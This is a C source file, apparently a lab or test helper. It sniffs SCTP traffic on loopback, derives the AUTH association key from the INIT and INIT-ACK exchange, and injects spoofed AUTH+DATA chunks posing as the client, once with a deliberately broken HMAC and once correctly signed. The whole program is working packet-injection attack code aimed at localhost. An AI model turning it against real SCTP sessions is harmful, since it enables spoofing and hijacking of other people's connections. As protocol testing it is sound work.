/* lab helper: sniff lo, learn the AUTH key of the association to port 7000
 * from its INIT / INIT-ACK, then inject AUTH+DATA (first with a wrong HMAC,
 * then signed) as if sent by the client. */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "wire.h"

static const struct wire_field *get(const struct wire_chunk *c, const char *n)
{
	return wire_fl_get(&c->fields, n);
}

int main(void)
{
	int ps = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	int rs = socket(AF_INET, SOCK_RAW, IPPROTO_SCTP);
	struct wire_buf v1, v2, key, ch, pkt;
	uint8_t buf[65536];
	uint32_t server_tag = 0, last_tsn = 0;
	uint16_t cport = 0, last_ssn = 0;
	int ndata = 0, have_init = 0, have_ack = 0;
	if (ps < 0 || rs < 0) {
		perror("socket");
		return 1;
	}
	wire_buf_init(&v1); wire_buf_init(&v2); wire_buf_init(&key);
	wire_buf_init(&ch); wire_buf_init(&pkt);
	for (;;) {
		struct sockaddr_ll ll;
		socklen_t sl = sizeof(ll);
		ssize_t n = recvfrom(ps, buf, sizeof(buf), 0, (struct sockaddr *)&ll, &sl);
		struct wire_packet p;
		size_t i;
		if (n <= 0 || ll.sll_pkttype == PACKET_OUTGOING)
			continue;  /* loopback shows each packet twice */
		if (wire_decode_frame(buf, (size_t)n, WIRE_DLT_EN10MB, NULL, &p) < 0 && !p.have_sctp) {
			wire_packet_free(&p);
			continue;
		}
		for (i = 0; i < p.nchunks; i++) {
			const struct wire_chunk *c = &p.chunks[i];
			const uint8_t *sp = buf + p.sctp_offset;
			if (c->type == WIRE_CT_INIT && p.dport == 7000) {
				wire_auth_key_vector(sp + c->offset, c->length, &v1);
				cport = p.sport;
				have_init = 1;
			} else if (c->type == WIRE_CT_INIT_ACK && p.sport == 7000) {
				wire_auth_key_vector(sp + c->offset, c->length, &v2);
				server_tag = (uint32_t)get(c, "init_tag")->u;
				have_ack = 1;
			} else if (c->type == WIRE_CT_DATA && p.dport == 7000 && p.sport == cport) {
				last_tsn = (uint32_t)get(c, "tsn")->u;
				last_ssn = (uint16_t)get(c, "ssn")->u;
				ndata++;
			}
		}
		wire_packet_free(&p);
		if (have_init && have_ack && ndata == 3)
			break;
	}
	usleep(300000);
	wire_auth_assoc_key(NULL, 0, v1.p, v1.len, v2.p, v2.len, &key);
	for (int pass = 0; pass < 2; pass++) {
		struct sockaddr_in d = { .sin_family = AF_INET };
		const char *msg = pass ? "injected-signed" : "injected-badmac";
		wire_buf_reset(&ch);
		wire_craft_auth(&ch, 0, WIRE_HMAC_SHA256, NULL, 32);
		wire_craft_data(&ch, WIRE_DATA_FLAG_B | WIRE_DATA_FLAG_E, last_tsn + 1, 0,
				(uint16_t)(last_ssn + 1), 0, (const uint8_t *)msg, strlen(msg));
		wire_craft_packet(&pkt, cport, 7000, server_tag, ch.p, ch.len);
		wire_auth_sign(pkt.p, pkt.len, 12, key.p, key.len);
		if (!pass) {
			pkt.p[20] ^= 0x55;   /* spoil the HMAC */
			wire_sctp_set_checksum(pkt.p, pkt.len);
		}
		d.sin_addr.s_addr = htonl(0x7f000001);
		if (sendto(rs, pkt.p, pkt.len, 0, (struct sockaddr *)&d, sizeof(d)) < 0)
			perror("sendto");
		fprintf(stderr, "authinj: sent %s tsn=%u\n", msg, last_tsn + 1);
		usleep(500000);
	}
	return 0;
}
